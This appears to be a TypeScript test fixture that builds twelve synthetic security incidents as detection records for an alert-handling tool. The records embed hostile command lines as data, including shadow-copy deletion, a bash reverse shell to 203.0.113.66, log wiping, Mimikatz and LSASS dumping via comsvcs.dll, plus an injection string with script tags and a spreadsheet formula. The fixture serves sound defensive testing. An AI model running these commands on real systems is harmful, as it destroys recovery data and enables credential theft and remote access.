/** What comes in for each of the twelve incidents of docs/examples: attacks of the sample, and made-up ones of the kinds that it lacks. */
import { ownSampleText } from "../harness/engine-samples.ts";
import { at, begin, cmd, detection, type Fields, powershell, process, type Rule, system32 } from "./records.ts";
import { twoAccounts, worm } from "./spread.ts";

export interface ExampleIncident {
  /** Of its files. */
  name: string;
  detections: Fields[];
  alarms?: Fields[];
  /** Whose incident is shown. */
  actor: string;
  /** Promoted by hand for this reason. */
  promoted?: string;
  assets?: { kind: "host" | "account"; name: string; role: string }[];
}

const shadowCopies: Rule = {
  title: "Shadow Copies Deletion Using Operating Systems Utilities",
  level: "high",
  tags: ["impact", "t1490"],
};

/** Records of an attack of the sample. */
function sampled(scenario: string): Fields[] {
  return ownSampleText()
    .trim()
    .split("\n")
    .filter((line) => line.includes(scenario))
    .map((line) => {
      const { id: _, source: __, ...record } = JSON.parse(line) as Fields;
      return record;
    });
}

function ransomware(): Fields[] {
  const on = (host: string, seconds: number): Fields[] => {
    const run = (image: string, line: string) => ({
      host,
      user: "CORP\\m.keller",
      raw: process(host, "CORP\\m.keller", `${system32}\\${image}`, line, "C:\\Users\\Public\\svc-update.exe"),
    });
    return [
      detection(shadowCopies, seconds, run("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")),
      detection(
        { title: "Boot Configuration Tampering Via Bcdedit.EXE", level: "high", tags: ["impact", "t1490"] },
        seconds + 2,
        run("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
      ),
      detection(
        { title: "Suspicious Creation of TXT File - Ransom Note", level: "critical", tags: ["impact", "t1486"] },
        seconds + 95,
        {
          host,
          user: "CORP\\m.keller",
          raw: {
            EventID: 11,
            Channel: "Microsoft-Windows-Sysmon/Operational",
            Computer: host,
            EventData: {
              Image: "C:\\Users\\Public\\svc-update.exe",
              TargetFilename: "C:\\Users\\m.keller\\Desktop\\HOW_TO_RESTORE_YOUR_FILES.txt",
              User: "CORP\\m.keller",
            },
          },
        },
      ),
    ];
  };
  return [
    detection(
      { title: "Suspicious Executable Run From Public Folder", level: "medium", tags: ["execution", "t1204.002"] },
      0,
      {
        host: "FIN-WS-14",
        user: "CORP\\m.keller",
        raw: process(
          "FIN-WS-14",
          "CORP\\m.keller",
          "C:\\Users\\Public\\svc-update.exe",
          "svc-update.exe -p C:\\ -n 10.20.4.0/24",
          "C:\\Windows\\explorer.exe",
        ),
      },
    ),
    ...on("FIN-WS-14", 30),
    ...on("FIN-SRV-02", 80),
  ];
}

function manyHosts(): Fields[] {
  return Array.from({ length: 50 }, (_, n) => {
    const host = `WS-${String(100 + n)}.corp.example`;
    const raw = process(
      host,
      "CORP\\adm-lindner",
      `${system32}\\vssadmin.exe`,
      "vssadmin delete shadows /all /quiet",
      cmd,
    );
    return [
      detection(shadowCopies, n, { host, user: "CORP\\adm-lindner", raw }),
      detection(
        {
          title: "Suspicious Service Installed Remotely",
          level: "medium",
          tags: ["lateral-movement", "t1021.002", "t1569.002"],
        },
        n - 1,
        {
          host,
          user: "CORP\\adm-lindner",
          raw: {
            EventID: 7045,
            Channel: "System",
            Computer: host,
            EventData: { ServiceName: "WinUpdSvc", ImagePath: `%COMSPEC% /c vssadmin delete shadows /all /quiet` },
          },
        },
      ),
    ];
  }).flat();
}

function linux(): Fields[] {
  const host = "web-prod-03";
  const run = (...args: string[]) => ({
    host,
    user: "www-data",
    raw: {
      message: `type=EXECVE msg=audit(${begin / 1000}.112:4711): argc=${args.length} ${args.map((arg, n) => `a${n}="${arg}"`).join(" ")}`,
      hostname: host,
    },
  });
  return [
    detection(
      { title: "Suspicious Web Shell Child Process - Linux", level: "high", tags: ["persistence", "t1505.003"] },
      0,
      run("sh", "-c", "id; uname -a"),
    ),
    detection(
      { title: "Suspicious Reverse Shell Command Line", level: "high", tags: ["execution", "t1059.004"] },
      41,
      run("bash", "-i", ">& /dev/tcp/203.0.113.66/4444", "0>&1"),
    ),
    detection(
      { title: "Scheduled Cron Task/Job - Linux", level: "medium", tags: ["persistence", "t1053.003"] },
      190,
      run("crontab", "-l", "-u", "www-data"),
    ),
    detection(
      { title: "Clear Linux Logs", level: "medium", tags: ["defense-evasion", "t1070.002"] },
      301,
      run("rm", "-f", "/var/log/nginx/access.log"),
    ),
  ];
}

function hostile(): Fields[] {
  const evil = `</td></table><script>alert(1)</script> {code} [x|http://evil.example] \u202egnp.exe\u202c\r\nPriority: P4 @channel`;
  const user = `CORP\\o'hara"><img src=x>`;
  return [
    detection({ title: `Encoded Command ${evil}`, level: "critical", tags: ["execution", "t1059.001"] }, 0, {
      host: "WS-<script>",
      user,
      raw: process(
        "WS-<script>",
        user,
        powershell,
        `powershell -c "echo ${evil}" --password hunter2 =cmd|'/c calc'!A1`,
        cmd,
      ),
    }),
    detection({ title: "Mimikatz Execution", level: "high", tags: ["credential-access", "t1003.001"] }, 12, {
      host: "WS-<script>",
      user,
      raw: process(
        "WS-<script>",
        user,
        "C:\\Temp\\{code}.exe",
        "{code}.exe privilege::debug sekurlsa::logonpasswords",
        cmd,
      ),
    }),
  ];
}

function huge(): Fields[] {
  const tactics = ["execution", "persistence", "discovery", "lateral-movement", "credential-access", "collection"];
  const levels = ["low", "medium", "medium", "high"];
  return Array.from({ length: 400 }, (_, n) => {
    const host = `APP-${String(n % 60).padStart(2, "0")}.corp.example`;
    const line = `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\stage-${n}.ps1 -Target ${host} -Step ${n}`;
    const title = n === 77 ? "Lsass Memory Dump via Comsvcs DLL" : `Suspicious Administration Script Stage ${n}`;
    const rule = {
      title,
      level: n === 77 ? "critical" : (levels[n % 4] ?? "low"),
      tags: n === 77 ? ["credential-access", "t1003.001"] : [tactics[n % 6] ?? "execution", `t1${100 + (n % 90)}`],
    };
    const dump = "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\l.dmp full";
    return detection(rule, n * 11, {
      host,
      user: "CORP\\svc-deploy",
      raw: process(
        host,
        "CORP\\svc-deploy",
        n === 77 ? `${system32}\\rundll32.exe` : powershell,
        n === 77 ? dump : line,
        cmd,
      ),
    });
  });
}

const bruteForce = [
  ["LR-88121", "Brute Force: Multiple Failed Logons Followed By Success", 92, 0],
  ["LR-88107", "Excessive Failed Logons From External Address", 74, -340],
  ["LR-88119", "VPN Logon From New Country", 61, -20],
] as const;

export const exampleIncidents: readonly (() => ExampleIncident)[] = [
  () => ({ name: "credential-dump", detections: sampled("psh_lsass_memory_dump_comsvcs"), actor: "wardog" }),
  () => ({ name: "ransomware", detections: ransomware(), actor: "m.keller" }),
  () => ({ name: "lateral-movement", detections: sampled("purplesharp_ad_playbook_I"), actor: "pgustavo" }),
  () => ({
    name: "brute-force-alarms-only",
    detections: [],
    alarms: bruteForce.map(([alarm_id, name, rbp, seconds]) => ({
      alarm_id,
      name,
      rbp,
      timestamp: at(seconds),
      user: "CORP\\t.okafor",
    })),
    actor: "t.okafor",
    promoted: "SIEM shift asks for a ticket: three alarms within six minutes",
  }),
  () => ({
    name: "one-medium-by-hand",
    detections: [
      detection({ title: "New User Created Via Net.EXE", level: "medium", tags: ["persistence", "t1136.001"] }, 0, {
        host: "HR-WS-07",
        user: "CORP\\p.santos",
        raw: process("HR-WS-07", "CORP\\p.santos", `${system32}\\net.exe`, "net user helpdesk2 Winter2026! /add", cmd),
      }),
    ],
    actor: "p.santos",
    promoted: "Nobody in the help desk knows this account",
  }),
  () => ({
    name: "many-hosts",
    detections: manyHosts(),
    actor: "adm-lindner",
    assets: [{ kind: "account", name: "adm-lindner", role: "administrator" }],
  }),
  () => ({
    name: "linux-web-server",
    detections: linux(),
    actor: "www-data",
    assets: [{ kind: "host", name: "web-prod-03", role: "server" }],
  }),
  () => ({ name: "hostile-text", detections: hostile(), actor: `o'hara"><img src=x>` }),
  () => ({
    name: "400-rules",
    detections: huge(),
    actor: "svc-deploy",
    assets: [{ kind: "account", name: "svc-deploy", role: "deployment" }],
  }),
  () => ({
    name: "domain-controller",
    detections: sampled("empire_dcsync_dcerpc_drsuapi_DsGetNCChanges"),
    actor: "pgustavo",
    assets: [{ kind: "host", name: "mordordc.theshire.local", role: "domain_controller" }],
  }),
  () => ({ name: "outbreak", detections: worm(), actor: "br-20.corp.example" }),
  () => ({ name: "campaign", detections: twoAccounts(), actor: "h.brandt" }),
];
